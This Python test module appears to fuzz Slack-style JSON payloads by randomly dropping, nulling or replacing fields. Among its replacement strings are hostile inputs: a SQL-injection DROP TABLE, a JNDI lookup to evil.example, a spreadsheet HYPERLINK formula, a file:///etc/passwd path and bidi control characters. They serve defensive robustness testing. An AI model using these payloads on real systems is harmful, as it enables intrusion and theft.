"""Payloads made wrong in every way: members gone, null, of another type, huge, or hostile."""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence
    from random import Random

    Payload = dict[str, Any]
    Spot = tuple[Any, str | int]

IDENTITY: Final = frozenset(
    {"user", "user_id", "team", "team_id", "enterprise", "enterprise_id", "is_enterprise_install"}
)
"""The members of a payload by which a person is known."""

_TEXTS: Final = (
    "",
    " ",
    "x" * 5_000,
    "\u00e9" * 3_001,
    "\u202eevil\u202c",
    "\u200b\u2066\ufeff",
    "a\u2028b\x00c\x1b[31md\r\n",
    "half \ud800 a pair",
    "<!channel> <!here> <@U0ALICE001> <https://evil.example|x> *b* `c` &lt; & <",
    "');DROP TABLE fixes;--",
    "{{7*7}} ${jndi:ldap://evil.example} %s %n",
    '=HYPERLINK("https://evil.example")',
    "9" * 30,
    "9" * 5_000,
    "-1",
    "1e9",
    "0x10",
    "\u0661\u0662\u0663",
    "999999999999",
    "000000000001:SECURITY:extra",
    "000000000001:security",
    "altcontact_show:000000000001:SECURITY",
    "{",
    "null",
    "[]",
    "{}",
    '{"account": null}',
    '{"account": "999999999999", "type": "NONE", "revision": -1, "page": -1}',
    '{"account": 7, "type": [], "shown": 1, "shown_at": "2026-01-05", "revision": "x"}',
    "[" * 2_000,
    "file:///etc/passwd",
    "http://[",
    "2026-02-30",
    "0001-01-01",
    "9999-12-31",
)
_OTHERS: Final[tuple[object, ...]] = (
    None,
    True,
    False,
    0,
    -1,
    7,
    2**63,
    2**200,
    1.5,
    [],
    [None],
    [[]],
    {},
    {"id": None},
    {"value": None},
    [{"value": "0:0"}] * 200,
)
_IDS: Final = ("U0NOBODY01", "W0ELSEWH01", "USLACKBOT", "T0FOREIGN1", "E0FOREIGN1", "C0NOWHERE1")


def mutated(payload: Payload, chance: Random, *, kept: frozenset[str] = frozenset()) -> Payload:
    """A payload with up to eight things wrong, or none.

    Args:
        payload: a valid one; it stays as it is.
        chance: what decides.
        kept: members at the top that stay.
    """
    made = copy.deepcopy(payload)
    for _ in range(chance.choice((0, 1, 1, 1, 2, 2, 3, 8))):
        spots = [spot for spot in _spots(made) if spot[0] is not made or spot[1] not in kept]
        spots = [spot for spot in spots if not any(_within(made.get(top), spot[0]) for top in kept)]
        if spots:
            chance.choice(_WAYS)(*chance.choice(spots), chance)
    return made


def _spots(node: object) -> Iterator[Spot]:
    """Every member and element below a node, with what holds it."""
    held: Sequence[tuple[str | int, object]] = ()
    if isinstance(node, dict):
        held = list(node.items())
    elif isinstance(node, list):
        held = list(enumerate(node[:20]))
    for key, child in held:
        yield node, key
        yield from _spots(child)


def _within(top: object, node: object) -> bool:
    return top is node or any(
        holder is node for holder, _ in (_spots(top) if isinstance(top, dict | list) else ())
    )


def _drop(holder: Any, key: str | int, _: Random) -> None:  # noqa: ANN401 - JSON
    del holder[key]


def _set_none(holder: Any, key: str | int, _: Random) -> None:  # noqa: ANN401 - JSON
    holder[key] = None


def _set_text(holder: Any, key: str | int, chance: Random) -> None:  # noqa: ANN401 - JSON
    holder[key] = chance.choice(_TEXTS)


def _set_other(holder: Any, key: str | int, chance: Random) -> None:  # noqa: ANN401 - JSON
    holder[key] = copy.deepcopy(chance.choice(_OTHERS))


def _set_id(holder: Any, key: str | int, chance: Random) -> None:  # noqa: ANN401 - JSON
    holder[key] = chance.choice(_IDS)


def _lengthen(holder: Any, key: str | int, chance: Random) -> None:  # noqa: ANN401 - JSON
    if isinstance(holder[key], str):
        holder[key] += chance.choice(_TEXTS)


def _double(holder: Any, key: str | int, _: Random) -> None:  # noqa: ANN401 - JSON
    if isinstance(holder, dict):
        holder[f"{key}_"] = holder[key]
    else:
        holder.append(holder[key])


_WAYS: Final[tuple[Callable[[Any, Any, Random], None], ...]] = (
    _drop,
    _drop,
    _set_none,
    _set_none,
    _set_text,
    _set_text,
    _set_text,
    _set_other,
    _set_other,
    _set_id,
    _lengthen,
    _double,
)
